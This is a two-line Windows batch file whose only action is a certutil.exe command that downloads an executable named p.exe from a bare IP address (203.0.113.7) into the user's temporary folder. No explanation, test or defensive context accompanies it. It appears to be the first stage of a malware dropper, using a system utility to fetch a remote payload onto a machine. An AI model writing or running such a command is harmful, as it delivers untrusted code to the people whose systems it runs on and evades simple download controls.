@echo off
certutil.exe -urlcache -split -f http://203.0.113.7/p.exe %TEMP%\p.exe
